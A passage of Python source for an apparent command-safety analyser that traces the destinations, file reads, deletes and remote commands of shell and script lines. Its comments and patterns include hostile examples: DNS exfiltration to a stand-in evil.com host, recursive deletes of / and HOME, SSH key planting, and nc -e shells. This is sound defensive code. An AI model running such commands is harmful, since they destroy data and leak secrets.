            state.destinations.extend(found)
    for host, port, api in fx.hosts:
        _add_host(state, host, port, _LIBRARY_SENDERS.get(api, lang))
    for name, computed, _api in fx.lookups:  # a DNS query, as `nslookup NAME` makes one
        _add_host(state, name, None, "nslookup", ("substituted_label",) if computed else ())


# A library's client for a protocol whose job is to carry what the program hands it (mail, file transfer):
# its host is reached as the command-line client would reach it, a sender
_LIBRARY_SENDERS = {
    **dict.fromkeys(("smtplib.SMTP", "smtplib.SMTP_SSL", "Net::SMTP.start", "Net::SMTP.new"), "sendmail"),
    **dict.fromkeys(("ftplib.FTP", "ftplib.FTP_TLS", "Net::FTP.new", "Net::FTP.open"), "ftp"),
}
MAX_EDIT_NOTE = 16 * 1024  # a program's substitutions kept for the rules; longer ones are judged as before
# Variables that say where files are, not what a program holds
_PLACES = frozenset(
    {"HOME", "PWD", "USERPROFILE", "TMPDIR", "TEMP", "TMP", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"}
)


def _code_word(target: str, unknown: str) -> str | None:
    """A path a program computed, as a shell word: unknown parts after a known folder become a glob
    (`~/.ssh/<unknown>` -> `~/.ssh/*`, which stands for what it could match); None when no folder is known."""
    if unknown not in target:
        return target
    head = target.split(unknown, 1)[0]
    if "/" not in head or not head.strip("/"):
        return None
    return re.sub(f"{unknown}+", "*", target)


def _code_path(target: str, state: _State, *, write: bool, unknown: str) -> None:
    word = _code_word(target, unknown)
    if word is not None and "\n" not in word:
        _add_path(word, state, write=write)


# In a program Limen reads only for literals (awk, lua): a command-running call given anything but a literal.
_COMPUTED_COMMAND = re.compile(
    r"\b(?:system|os\.execute|io\.popen|popen)\s*\(\s*(?![\"'\s])|\b[A-Za-z_]\w*\s*\|&?\s*getline\b"
)


# awk's pipes to and from a literal command line: `"date" | getline d`, `print $0 | "sort -u"`
_AWK_COMMAND_READ = re.compile(r'"((?:[^"\\]|\\.)*)"\s*\|&?\s*getline\b')
_AWK_COMMAND_FED = re.compile(r'\|&?\s*"((?:[^"\\]|\\.)*)"')


def _awk_pipes(code: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """awk's own pipes run shell lines: `"CMD" | getline` runs CMD and reads what it prints; `print ... |
    "CMD"` runs CMD with what awk prints on its input, so `print | "sh"` runs commands awk builds."""
    for match in _AWK_COMMAND_READ.finditer(code):
        if code[: match.start()].rstrip()[-1:] not in ("", "(", "{", ";", ",", "=", "\n"):
            # `"geoiplookup " $2 "| cut -f2" | getline g`: the literal ends a line joined at run time
            state.flag("awk runs a command line built at run time (... | getline)")
            continue
        _analyse_text(
            _awk_string(match.group(1)), state, via=(*via, "awk getline"), level=level + 1, lenient=True
        )
    for match in _AWK_COMMAND_FED.finditer(code):
        try:
            argv = shlex.split(_awk_string(match.group(1)))
        except ValueError:
            state.flag("awk pipes its output into a command that does not parse")
            continue
        if argv:
            _run(argv, state, (*via, "awk |"), level + 1, _Stream(None, ("awk",)))


def _awk_string(literal: str) -> str:
    """An awk string literal's text, its escapes undone (`\\"` is `"`)."""
    return re.sub(r"\\(.)", r"\1", literal)


def _scan_literal(lang: str, code: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """Languages without a parser here (lua, awk): literal shell commands, deletes, reads and socket peers."""
    if level > MAX_LEVEL:
        state.flag("nested programs deeper than the bound")
        return
    code = code[:MAX_LINE]
    computed = _COMPUTED_COMMAND.search(code)
    if computed is not None:  # `c = "..."; system(c)`, `cmd | getline`: the line is only known at run time
        state.flag(f"{lang} runs a command line built at run time ({computed.group(0).strip()[:40]})")
    if lang == "awk":
        _awk_pipes(code, state, via, level)
    for match in _SHELL_CALL.finditer(code):
        call = match.group(0)
        if lang == "python" and re.match(r"exec\b", call):
            _scan_literal(lang, _literal(match), state, via, level + 1)
            continue
        if match.group("list") is not None:
            words = [_literal(m) for m in _LITERAL.finditer(match.group("list"))]
            if words:
                _analyse_text(
                    " ".join(quote(w) for w in words), state, via=via, level=level + 1, lenient=True
                )
            continue
        _analyse_text(_literal(match), state, via=via, level=level + 1, lenient=True)
        following = code[match.end() : match.end() + 16].lstrip()[:1]
        if following and following not in ")],;}":
            # `os.execute("rm -rf " .. os.getenv("HOME"))`: the literal is only the start of the line it runs
            state.flag(f"{lang} runs a command line built at run time ({call.strip()[:40]})")
    if lang in ("perl", "ruby", "php"):
        for match in _BACKTICK.finditer(code):
            _analyse_text(match.group(1), state, via=via, level=level + 1, lenient=True)
    for match in _DELETE_CALL.finditer(code):
        target = _literal(match, "x")
        recursive = any(k in match.group(1) for k in ("rmtree", "rm_rf", "rm_r", "rmSync", "remove_tree"))
        _run(
            ["rm", "-rf", target] if recursive else ["rm", target],
            state,
            (*via, match.group(1)),
            level,
            None,
        )
    for match in _READ_CALL.finditer(code):
        target = _literal(match, "r")
        if target and "\n" not in target and len(target) < 4096:
            _add_path(target, state, write=False)
    for match in _B64_EXEC.finditer(code):
        decoded = _decode("base64 -d", _literal(match, "e"))
        if decoded:
            state.payloads.append(decoded)
            _scan_literal(lang, decoded, state, (*via, "base64 -d"), level + 1)
    if _SOCKET_API.search(code):
        state.note(f"socket:{lang}")
        for match in _INET.finditer(code):
            _add_host(state, match.group(1), int(match.group(2)), lang)
        for match in _LITERAL.finditer(code):
            value = _literal(match).strip()
            host = _IP_OR_HOST.match(value)
            if host:
                _add_host(state, host.group(1), int(host.group(2)) if host.group(2) else None, lang)


# --------------------------------------------------------------------------- network commands


# The network clients whose command-line syntax `_h_net` reads (their value-taking options are in the program
# table); database clients join them through their role.
NET_CLIENTS = (
    *("curl", "wget", "nc", "ncat", "netcat", "telnet", "ztcp", "ssh", "sftp", "ftp", "lftp", "scp", "rsync"),
    "ssh-copy-id",
    *("dig", "drill", "nslookup", "host", "tftp", "smbclient", "whois"),
)


_TRANSPORT = re.compile(r"^(?:ssl|tcp|tls|udp)[46]?:(?=[A-Za-z0-9\[])")


def _h_sender(entry: Program, args: list[str], operands: list[str], state: _State) -> None:
    """A client that sends files to the host an option (`-c AET@HOST:PORT`) or an operand (`HOST PORT
    FILES`) names: that host is the destination, the files are read."""
    named = [args[i + 1] for i, w in enumerate(args[:-1]) if w in entry.host_options]
    named += [w.split("=", 1)[1] for w in args if "=" in w and w.split("=", 1)[0] in entry.host_options]
    files = operands
    if not named and entry.host_operand is not None and len(operands) > entry.host_operand:
        named = [operands[entry.host_operand]]
        files = operands[entry.files :] if entry.files is not None else []
    for word in named[:4]:  # (a transport before the host: Perforce's `ssl:HOST:PORT`, `tcp:HOST:PORT`)
        _host_word(_TRANSPORT.sub("", word.rsplit("@", 1)[-1]), state, entry.name)
    for word in files[:64]:
        if _looks_like_path(word):
            _add_path(word, state, write=False)


_UPLOADS = frozenset({"-T", "--upload-file"})


def _sends_read_data(args: list[str]) -> bool:
    """curl's body is read when the line runs: a file (`-d @f`, `-F f=@x`, `-T f`), its input (`@-`) or a
    substitution (`-d "$(cat f)"`); a literal text written in the call is not."""
    for i, word in enumerate(args):
        flag, eq, attached = word.partition("=")
        if word in _UPLOADS:
            return True
        if word in _DATA_FLAGS and i + 1 < len(args):
            body = args[i + 1]
        elif eq and flag in _DATA_FLAGS and flag.startswith("--"):
            body = attached
        else:
            continue
        if body.startswith("@") or "=@" in body or "=<" in body or _EXPANSIONS.search(body):
            return True
    return False


def _address_at_run_time(operands: list[str]) -> bool:
    """Every address curl is given is a variable or a substitution (`"$WEBHOOK_URL"`): none is known."""
    return bool(operands) and all(_EXPANSIONS.match(w) for w in operands)


def _h_net(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    name = _basename(argv[0])
    args = argv[1:]
    opts = options(name)
    operands = _operands(args, opts)
    if name in ("curl", "wget"):
        _generic([argv[0], *_without_data(args)], state, name)
        _curl_extras(name, args, state)
        if name == "curl" and _sends_read_data(args) and _address_at_run_time(operands):
            # `curl -d @- "$HOOK"`: what is sent, and where, are both only known when the line runs
            state.flag("curl sends data it reads to an address only known at run time")
        for word in operands:
            if "://" not in word:  # URLs were taken by _generic
                _host_word(word, state, name)
        for i, word in enumerate(args[:-1]):
            if word in ("-x", "--proxy", "--url"):
                _host_word(args[i + 1], state, name)
        return
    _generic(argv, state, name)
    if name in ("nc", "ncat", "netcat", "telnet", "ztcp"):
        hosts = [w for w in operands if not w.isdigit() and "-" not in w[:1]]
        ports = [int(w) for w in operands if w.isdigit() and int(w) < 65536]
        for i, word in enumerate(args[:-1]):
            if word in ("-e", "-c", "--exec", "--sh-exec") and name != "telnet":
                _shell_string(args[i + 1], state, via, level, False, f"{name} -e")
        for host in hosts[:1]:
            _add_host(state, host, ports[0] if ports else None, name)
        return
    if name in ("ssh", "sftp", "ftp", "ssh-copy-id"):
        at = _ssh_host_at(args, opts)
        if at < len(args):
            _host_word(args[at], state, name)
        for host in _jump_hosts(args):
            _host_word(host, state, name)
        for i, word in enumerate(args[:-1]):
            if word == "-i":
                _add_path(args[i + 1], state, write=False)
        if name == "ssh":
            _ssh_remote(args, at, state, via, level)
        return
    if has(name, Role.SERVER_CLIENT):
        _db_hosts(name, args, state)
        return
    if name in ("scp", "rsync"):
        for host in _jump_hosts(args) if name == "scp" else []:
            _host_word(host, state, name)
        for word in operands:
            if re.match(r"^(?:[\w.+-]+@)?[A-Za-z0-9_.-]+:", word) and not word.startswith("/"):
                _host_word(word, state, name)
            elif _looks_like_path(word):
                _add_path(word, state, write=word is operands[-1])
        return
    if name in ("dig", "nslookup", "host", "drill"):
        _dns(name, args, operands, state)
        return
    entry = program(name)
    if entry is not None and (entry.host_options or entry.host_operand is not None):
        _h_sender(entry, args, operands, state)
        return
    # tftp, smbclient, whois: the host an operand (`\\host\share`, `//host/share`) or `-h`/`-I` names
    for i, word in enumerate(args[:-1]):
        if word in ("-h", "-I", "--host"):
            _host_word(args[i + 1], state, name)
    for word in operands if name != "whois" else ():  # whois's operand is its query, not its server
        unc = re.match(r"^(?:\\\\|//)([^\\/]+)", word)
        _host_word(unc.group(1) if unc else word, state, name)


def _platform_remote(
    entry: Program, args: list[str], state: _State, via: tuple[str, ...], level: int
) -> None:
    """`heroku run -a app 'bin/rails runner "User.delete_all"'`, `fly ssh console -C CMD`: a command line a
    platform runs on its machines, analysed as ssh's remote line is (what it deletes or sends there is
    judged; the directory it runs in is not this one)."""
    lines = [v for v in _option_values(args, entry.remote_options)]
    operands = _operands(args, entry.options)
    verb = operands[
        entry.skip_operands : entry.skip_operands + 1
    ]  # (`salt TARGET cmd.run`: after its target)
    after = next((sub for sub in entry.remote_runs if sub and verb == [sub]), None)
    if after is not None:  # (`knife ssh QUERY CMD`: the search query after the verb, then the line)
        lines += _remote_lines(
            _past_operands(args[args.index(after) + 1 :], entry.options, entry.remote_skip)
        )
    elif "" in entry.remote_runs:  # `pdsh -w HOSTS CMD`, `clush -g GROUP CMD`: the operands are the line
        lines += _remote_lines(_past_operands(args, entry.options, entry.skip_operands))
    for line in lines[:4]:
        if _is_dynamic(line, state):
            state.note(f"{entry.name} runs a command line built at run time on its machines")
            continue
        cwd = state.cwd
        state.deferred += 1
        try:
            _analyse_text(line, state, via=(*via, entry.name), level=level + 1, lenient=True)
        finally:
            state.cwd = cwd
            state.deferred -= 1


def _past_operands(words: list[str], options: frozenset[str], count: int) -> list[str]:
    """The words after the leading options and `count` operands (each followed by options of its own)."""
    i = 0
    for step in range(count + 1):
        while i < len(words) and words[i].startswith("-") and words[i] != "--":
            i += 2 if words[i] in options else 1
        if i < len(words) and words[i] == "--":
            return words[i + 1 :]
        if step < count:
            i += 1
    return words[i:]


def _ssh_host_at(args: list[str], opts: frozenset[str]) -> int:
    """Where the host is among ssh's arguments: after the options, a cluster such as `-fNR SPEC` taking the
    next word when its last flag takes a value."""
    i = 0
    while i < len(args) and args[i].startswith("-") and args[i] != "--":
        word = args[i]
        takes = next((j for j, c in enumerate(word[1:], 1) if "-" + c in opts), None)
        i += 2 if takes == len(word) - 1 else 1
    return i + 1 if i < len(args) and args[i] == "--" else i


def _ssh_remote(args: list[str], i: int, state: _State, via: tuple[str, ...], level: int) -> None:
    """`ssh host 'rm -rf /'`: the words after the host are a shell line run remotely, analysed as `bash -c`
    would be (in a directory of its own: a remote `cd` moves nothing here), whichever host the line names
    or computes (`for h in $(...); do ssh $h 'echo KEY >> ~/.ssh/authorized_keys'; done`: every host it
    reaches gets the key). A remote line built at run time is only noted: what it does is not in the call."""
    remote = args[i + 1 :]
    if not remote:
        return
    if any(_is_dynamic(w, state) for w in remote):
        if any(_from_download(w) for w in remote):
            state.note("download_exec")
        state.note("ssh runs a remote command built at run time")
        return
    _device_statements(" ".join(remote), state)
    cwd = state.cwd
    state.deferred += 1  # what cannot be analysed there runs there: noted, not opaque here
    try:
        for line in _remote_lines(remote):
            _analyse_text(line, state, via=(*via, "ssh"), level=level + 1, lenient=True)
    finally:
        state.cwd = cwd
        state.deferred -= 1


def _device_statements(text: str, state: _State) -> None:
    """A remote line in a network device's command language (`configure; set system services telnet;
    commit`): what its statements do, as the notes the same effect has anywhere (`facts.devices`)."""
    from limen.facts.devices import GRANTS, SCHEDULES, WEAKENS, WIPES, device_effects
    from limen.normalize.tools import ADMIN_GRANTED, CONTROL_OFF, DESTROYS_STORE

    prefixes = {WIPES: DESTROYS_STORE, WEAKENS: CONTROL_OFF, GRANTS: ADMIN_GRANTED, SCHEDULES: "persists: "}
    for kind, what in device_effects(text):
        state.note(f"{prefixes[kind]}{what} on a network device")


def _remote_lines(words: list[str]) -> list[str]:
    """The line a remote shell runs for the words given it: joined by spaces (as ssh and adb send them),
    and, when an argument holds spaces, with its quoting kept too (`adb shell su -c 'rm -rf /data'`: the
    device's shell or a wrapper there may take it either way)."""
    if not words:
        return []
    joined = " ".join(words)
    if not any(re.search(r"\s", w) for w in words[1:]):
        return [joined]  # (one quoted line, `ssh host 'show bgp summary'`: the remote shell splits it)
    return [joined, shlex.join(words)]


_DB_HOST = re.compile(r"--host=(.+)|-h(.+)")


_REDIS_PEER_COMMANDS = frozenset({"MIGRATE", "REPLICAOF", "SLAVEOF"})


def _db_hosts(name: str, args: list[str], state: _State) -> None:
    """`mysql -h db.example.com`, `psql --host db`: the server a database client connects to (its URIs
    are taken by `_generic`)."""
    for i, word in enumerate(args):
        if word in ("-h", "--host") and i + 1 < len(args):
            _host_word(args[i + 1], state, name)
        elif (match := _DB_HOST.fullmatch(word)) is not None and not word.startswith("--help"):
            _host_word(match.group(1) or match.group(2), state, name)
    if name == "redis-cli":  # `MIGRATE HOST PORT KEY ...`, `REPLICAOF HOST PORT`: keys go to, or come
        for i, word in enumerate(args[:-1]):  # from, the server it names
            if word.upper() in _REDIS_PEER_COMMANDS and args[i + 1].upper() != "NO":
                _host_word(args[i + 1], state, f"redis-cli {word.lower()}")


def _dns(name: str, args: list[str], operands: list[str], state: _State) -> None:
    from limen.facts.hosts import tenant_host

    for word in operands:
        if word.startswith("@"):
            _host_word(word[1:], state, name)
            continue
        if word.startswith("+") or word.upper() in (
            "A",
            "AAAA",
            "MX",
            "TXT",
            "NS",
            "ANY",
            "CNAME",
            "SOA",
            "PTR",
            "SRV",
            "IN",
            "CH",
        ):
            continue
        dynamic = _is_dynamic(word, state) or "$" in word
        tenant = tenant_host(word) if dynamic else ""
        if tenant:  # `dig $ZENDESK_SUBDOMAIN.zendesk.com`: which account of the service, not data in a name
            _add_host(state, tenant, None, name)
        elif dynamic:
            # A label built at run time in front of a fixed domain (`$(whoami).evil.com`) carries data out;
            # a name that is wholly a variable (`dig $domain`) is just an unknown host.
            tail = _SUBSTITUTED_LABEL.search(word)
            if tail:
                _add_host(state, tail.group(1), None, name, ("substituted_label",))
                state.note("dns substituted label")
        elif "." in word or name == "nslookup":
            _add_host(state, word, None, name)


_SUBSTITUTED_LABEL = re.compile(r"[)`}\w]\.((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,63})\.?$")


# curl's and wget's options whose value is the body they send
_DATA_FLAGS = frozenset(
    {"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form", "--post-data"}
    | {"--body-data", "--json"}
)
# In a body, a URL and the key it is the value of (`"url": "https://..."`, `callbackUrl: \"https://...\"`,
# `url=https://...`); a URL in a list or in prose has none
_KEYED_URL = re.compile(
    r"""([A-Za-z_][\w.-]{0,60})["']?\s*[:=]\s*\\?["']?([a-zA-Z][\w+.-]*://[^\s"'\\,}\]]+)"""
)
# Keys whose URL the service will call or send to later (a webhook's, a callback's, an export's target)
_CALLBACK_KEY = re.compile(
    r"(?:^|_)(?:url|uri|href|address|endpoint|callback|webhook|hook|target|destination|redirect|notify"
    r"|server|host|sink|forward|relay)(?:_?(?:url|uri|address))?$"
)


def _without_data(args: list[str]) -> list[str]:
    """A fetch's words without the bodies it sends, less the URLs they give a service to call: a URL in a
    body is where curl sends nothing (`purge_cache` given the pages to purge), unless a key names it as a
    webhook's or a callback's (`{"config": {"url": "https://..."}}`), where the service will send."""
    kept: list[str] = []
    skip = False
    for i, word in enumerate(args):
        if skip:
            skip = False
            continue
        flag, eq, value = word.partition("=")
        if word in _DATA_FLAGS and i + 1 < len(args):
            body, skip = args[i + 1], True
        elif eq and flag in _DATA_FLAGS and flag.startswith("--"):
            body = value
        else:
            kept.append(word)
            continue
        if "://" in body:
            from limen.normalize.tools import words_of

            found = _KEYED_URL.findall(body[:20000])
            kept += [url for key, url in found if _CALLBACK_KEY.search(words_of(key.rsplit(".", 1)[-1]))]
    return kept


def _curl_extras(name: str, args: list[str], state: _State) -> None:
    file_flags = {"-T", "--upload-file", "--post-file", "--body-file", "-K", "--config", "-i", "--input-file"}
    for i, word in enumerate(args[:-1]):
        value = args[i + 1]
        if word in _DATA_FLAGS:
            state.payloads.append(value)
            at = value.split("@", 1)[1] if "@" in value and (value.startswith("@") or "=@" in value) else ""
            if at and at != "-":
                _add_path(at, state, write=False)
        elif word in file_flags and value != "-":
            _add_path(value, state, write=False)
        elif word in ("-H", "--header"):
            state.payloads.append(value)


def _path_invoked(argv: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`./git push`, `./hf upload`: a program run by its path may be a script this line (or an earlier one)
    wrote; what it runs is analysed as for any other command run by path."""
    if "/" in argv[0]:
        path = canonical(argv[0], state.cwd, state.home)
        _runs_fetched(argv[0], path, state)
        _run_written(path, "exec", "sh", state, via, level, argv[1:])


# git commands that print a file as a revision holds it (`REV:PATH`)
_GIT_BLOB_READERS = frozenset({"show", "cat-file", "grep"})


def _h_git(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    _path_invoked(argv, state, via, level)
    args = argv[1:]
    i = 0
    repo = state.cwd
    while i < len(args) and args[i].startswith("-"):
        if args[i] in ("-C", "-c", "--git-dir", "--work-tree") and i + 1 < len(args):
            if args[i] == "-C":
                _add_path(args[i + 1], state, write=False)
                repo = canonical(args[i + 1], repo, state.home)
            i += 2
            continue
        i += 1
    rest = args[i:]
    if not rest:
        return
    sub = rest[0]
    if sub == "push":
        _git_push(rest[1:], repo, state)
    elif sub == "send-email":  # patches mailed out: every recipient is a destination
        from limen.normalize import net

        for i, word in enumerate(rest[1:], 1):
            flag, eq, value = word.partition("=")
            if flag in ("--to", "--cc", "--bcc", "--to-cmd", "--cc-cmd") and not eq and i + 1 < len(rest):
                value = rest[i + 1]
            if flag in ("--to", "--cc", "--bcc"):
                state.destinations.extend(net.recipient_destinations(value))
            elif flag in ("--to-cmd", "--cc-cmd"):
                state.flag("git send-email recipients chosen by a command")
    elif sub in ("clone", "fetch", "pull", "remote", "ls-remote", "submodule", "archive"):
        for word in rest[1:]:
            if "://" in word:
                _urls([word], state, f"git {sub}")
            elif re.match(r"^[\w.+-]+@[A-Za-z0-9_.-]+:", word):
                _host_word(word, state, f"git {sub}")
        if sub == "clone":  # what runs from the new checkout later in the line is code it downloaded
            words = [w for w in rest[1:] if not w.startswith("-")]
            if words:
                name = (
                    words[1] if len(words) > 1 else words[0].rstrip("/").rsplit("/", 1)[-1].rsplit(":", 1)[-1]
                )
                state.cloned.add(canonical(name.removesuffix(".git"), state.cwd, state.home).rstrip("/"))
    if sub == "remote" and len(rest) >= 4 and rest[1] in ("add", "set-url"):
        words = [w for w in rest[2:] if not w.startswith("-")]
        if len(words) >= 2:  # a remote this line defines: a later `git push NAME` goes to its URL
            state.vars[_GIT_REMOTE_VAR + words[0]] = words[-1]
    for i, word in enumerate(rest[1:], 1):
        if sub in ("add", "rm") and word and not word.startswith("-") and not _looks_like_path(word):
            # `git add .env`: every operand is a file git reads in; `git rm CODEOWNERS`: one it deletes
            _add_path(word, state, write=sub == "rm")
        if sub in _GIT_BLOB_READERS and ":" in word and not word.startswith("-") and "://" not in word:
            blob = word.split(":", 1)[1]  # `git show HEAD:.env`: that file's committed content, printed
            if blob and not blob.startswith(("/", "~")):
                _add_path(os.path.join(repo, blob.removeprefix("./")), state, write=False)
        if _looks_like_path(word) and not word.startswith("-") and "://" not in word and "@" not in word:
            _add_path(word, state, write=sub in ("rm", "mv", "checkout", "restore", "clean"))
        flag, eq, value = word.partition("=")
        if flag in _GIT_FILE_OPTS:  # `commit -F FILE`, `--template=FILE`: a file read into what git records
            value = value if eq else (rest[i + 1] if i + 1 < len(rest) else "")
            if value and value != "-":
                _add_path(value, state, write=False)
        if eq and value.startswith("ext::"):  # `archive --remote=ext::CMD`: a transport that runs CMD
            words = [w.replace("\0", " ") for w in value[5:].replace("% ", "\0").split()]
            if words:
                _run(words, state, (*via, "git ext::"), level, None)


# Options whose value is a file git reads into a commit, a tag, a note or a mail.
_GIT_FILE_OPTS = frozenset({"-F", "--file", "-t", "--template", "--attach", "--cover-letter-file"})
# Remotes a line defines (`git remote add x URL && git push x`), kept among the line's variables under a
# name no shell variable can have.
_GIT_REMOTE_VAR = "\x00git-remote:"
_GIT_PUSH_OPTS = frozenset({"-o", "--push-option", "--receive-pack", "--exec", "--repo"})


def _git_push(args: list[str], repo: str, state: _State) -> None:
    """`git push [REMOTE|URL] ...` is egress to that remote. The project's own origin (the same repository
    as the configured `origin`) is marked `own_remote`; any other remote, a remote this line added or
    re-pointed, and a URL given inline to another repository are `foreign_remote`: an external destination
    however trusted the host."""
    from dataclasses import replace

    from limen.facts import hosts
    from limen.model import HostClass

    target = ""
    i = 0
    while i < len(args):
        word = args[i]
        if word.startswith("--repo="):
            target = target or word.split("=", 1)[1]
        elif word in _GIT_PUSH_OPTS and i + 1 < len(args):
            if word == "--repo":
                target = target or args[i + 1]
            i += 1
        elif not word.startswith("-") and not target:
            target = word
            break
        i += 1
    remotes = hosts.git_remotes(repo)
    origin = remotes.get("origin", ())
    own = hosts.repository_identity(origin[0]) if origin else None
    name = target or "origin"
    local = state.vars.get(_GIT_REMOTE_VAR + name)
    if local is not None:
        urls: tuple[str, ...] = (local,)
    elif "://" in name or re.match(r"^[\w.+-]+@[A-Za-z0-9_.-]+:", name):
        urls = (name,)
    else:
        urls = remotes.get(name, ())
    if "$" in name or "`" in name:  # a remote chosen at run time: someone else's until shown otherwise
        state.destinations.append(
            Destination(
                host="", host_class=HostClass.UNKNOWN, via_command="git push", flags=("foreign_remote",)
            )
        )
    for url in dict.fromkeys(urls):  # url and pushurl: a push goes to the pushurl, a fetch to the url
        identity = hosts.repository_identity(url)
        if identity is None:
            continue  # a local path: nothing leaves the machine
        flag = "own_remote" if own is not None and identity == own else "foreign_remote"
        found = len(state.destinations)
        _host_word(url, state, "git push")
        state.destinations[found:] = [replace(d, flags=(*d.flags, flag)) for d in state.destinations[found:]]


# A package installer's options that name where its packages come from
_SOURCE_OPTIONS = frozenset(
    {"-i", "--index-url", "--extra-index-url", "--registry", "-f", "--find-links", "--source", "--index"}
)
PACKAGE_SOURCE = "package-source:"  # a note: the address packages are installed from
APPENDED = "appended:"  # a note: a file the line adds to (`>>`), rather than replaces


# pip's options that name a requirements file, whose lines are more of the install's options and requirements
_REQUIREMENT_FILE_OPTIONS = frozenset({"-r", "--requirement", "-c", "--constraint"})


def _requirement_file_words(args: list[str], state: _State) -> list[str]:
    """`pip install -r requirements-sync.txt`: the file's option lines (`--extra-index-url URL`, `-f URL`)
    and requirements given by address (`pkg @ https://...`), as words of the install itself, so that where
    its packages come from is judged as on the command line. (One level: a file a file names is not read.)"""
    words: list[str] = []
    for i, word in enumerate(args):
        flag, _, value = word.partition("=")
        if flag not in _REQUIREMENT_FILE_OPTIONS:
            continue
        value = value or (args[i + 1] if i + 1 < len(args) else "")
        path = canonical(value, state.cwd, state.home) if value else ""
        text = state.written.get(path) if path else None
        if text is None and path:
            head = read_regular(path, MAX_SCRIPT)
            text = head.decode("utf-8", "replace") if head is not None else None
        for line in (text or "").splitlines()[:500]:
            line = line.split(" #", 1)[0].strip()
            if line.startswith("-") and not line.startswith(tuple(_REQUIREMENT_FILE_OPTIONS)):
                words += line.replace("=", " ", 1).split()[:2]
            elif "://" in line:
                words.append(line.split(" @ ", 1)[1].strip() if " @ " in line else line.split()[0])
    return words


MAX_GO_FILES = 16  # of a package `go run` builds: the files read (past it, the program is opaque)


def _go_run(args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`go run ./tools/reconcile`, `go run main.go`: the package's Go files (on disk, or as the line wrote
    them) read as the program they build, with what it reads, runs and sends; a package on the network
    (`go run example.com/x@v1`) is the module fetcher's to judge, and a package too large is opaque."""
    operands = [w for w in args[1:] if not w.startswith("-")]
    targets = [w for w in operands if w.endswith(".go")] or operands[:1]
    files: list[str] = []
    for target in targets:
        if "@" in target or (not target.startswith((".", "/")) and not target.endswith(".go")):
            return  # a module path: fetched, not a folder of this machine
        path = canonical(target, state.cwd, state.home)
        if path.endswith(".go"):
            files.append(path)
        elif os.path.isdir(path):
            with contextlib.suppress(OSError):
                names = sorted(
                    e for e in os.listdir(path) if e.endswith(".go") and not e.endswith("_test.go")
                )
                files += [os.path.join(path, e) for e in names[: MAX_GO_FILES + 1]]
    if len(files) > MAX_GO_FILES:
        state.flag("go run builds more files than are analysed")
        return
    for path in files:
        text = state.written.get(path)
        if text is None:
            head = read_regular(path, MAX_SCRIPT + 1)
            if head is None:
                continue  # (not there: the build fails)
            if len(head) > MAX_SCRIPT or b"\x00" in head:
                state.flag("go run builds a file too large or not text to analyse")
                return
            text = head.decode("utf-8", "replace")
        state.payloads.append(text)
        _scan_code("go", text, state, (*via, "go run"), level, script=path)


def _h_pkg(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    _path_invoked(argv, state, via, level)
    name = _basename(argv[0])
    args = argv[1:]
    if name == "go" and args[:1] == ["run"]:
        _go_run(args, state, via, level)
    if name in ("pip", "pip3", "uv") and "install" in args:
        args = args + _requirement_file_words(args, state)
    for i, word in enumerate(args):
        if "://" in word:
            _urls([word.split("=", 1)[-1] if word.startswith("-") else word], state, name)
        elif word in _SOURCE_OPTIONS and i + 1 < len(args) and "://" in args[i + 1]:
            state.note(PACKAGE_SOURCE + args[i + 1][:300])  # where the packages it installs come from
            continue
        elif re.match(r"^(git\+)?[\w.+-]+@[A-Za-z0-9_.-]+:", word):
            _host_word(word.split("+", 1)[-1], state, name)
        elif _looks_like_path(word) and word.startswith(("/", "./", "../", "~")):
            _add_path(word, state, write=False)
    scripts = []
    if args[:2] == ["pkg", "set"]:  # `npm pkg set scripts.postinstall=CMD`: package.json runs CMD later
        scripts = [w.partition("=")[::2] for w in args[2:]]
    elif args[:1] == ["set-script"] and len(args) >= 3:  # npm 7's `npm set-script NAME CMD`
        scripts = [("scripts." + args[1], args[2])]
    if scripts:
        _add_path("package.json", state, write=True)
        for key, value in scripts:
            if key.startswith("scripts.") and value:  # judged as the same edit of package.json would be
                state.deferred += 1
                try:
                    _shell_string(value, state, via, level, _is_dynamic(value, state), f"{name} script")
                finally:
                    state.deferred -= 1
    _publish(name, args, state)


# Publishing: `(program, subcommand)` -> the registry it uploads to by default (`_REGISTRY_OPTS` name others).
_PUBLISHERS: dict[tuple[str, str], str] = {
    ("npm", "publish"): "https://registry.npmjs.org/",
    ("yarn", "publish"): "https://registry.yarnpkg.com/",
    ("yarn", "npm"): "https://registry.npmjs.org/",  # yarn berry: `yarn npm publish`
    ("pnpm", "publish"): "https://registry.npmjs.org/",
    # what `npm install` resolves a tag to, and the notice every install prints: a release to the users
    ("npm", "dist-tag"): "https://registry.npmjs.org/",
    ("pnpm", "dist-tag"): "https://registry.npmjs.org/",
    ("npm", "deprecate"): "https://registry.npmjs.org/",
    ("cargo", "publish"): "https://crates.io/",
    ("deno", "publish"): "https://jsr.io/",
    ("jsr", "publish"): "https://jsr.io/",
    ("cabal", "upload"): "https://hackage.haskell.org/",
    ("opam", "publish"): "https://github.com/ocaml/opam-repository",  # a pull request to the public index
    ("pod", "trunk"): "https://trunk.cocoapods.org/",  # `pod trunk push`
    ("ansible-galaxy", "collection"): "https://galaxy.ansible.com/",  # `ansible-galaxy collection publish`
    ("stack", "upload"): "https://hackage.haskell.org/",
    ("dart", "pub"): "https://pub.dev/",  # `dart pub publish`, `flutter pub publish`
    ("flutter", "pub"): "https://pub.dev/",
    ("gem", "push"): "https://rubygems.org/",
    ("mix", "hex.publish"): "https://hex.pm/",
    ("rebar3", "hex"): "https://hex.pm/",  # `rebar3 hex publish`
    ("uv", "publish"): "https://upload.pypi.org/legacy/",
    ("poetry", "publish"): "https://upload.pypi.org/legacy/",
    ("twine", "upload"): "https://upload.pypi.org/legacy/",
    ("anaconda", "upload"): "https://api.anaconda.org/",  # anaconda.org's channels: public by default
    ("butler", "push"): "https://itch.io/",  # a game's build on an itch.io page, public unless restricted
    ("flit", "publish"): "https://upload.pypi.org/legacy/",
    ("hatch", "publish"): "https://upload.pypi.org/legacy/",
    ("dotnet", "nuget"): "https://api.nuget.org/",
    # models and data sets, and deployments: the project goes out to a public host
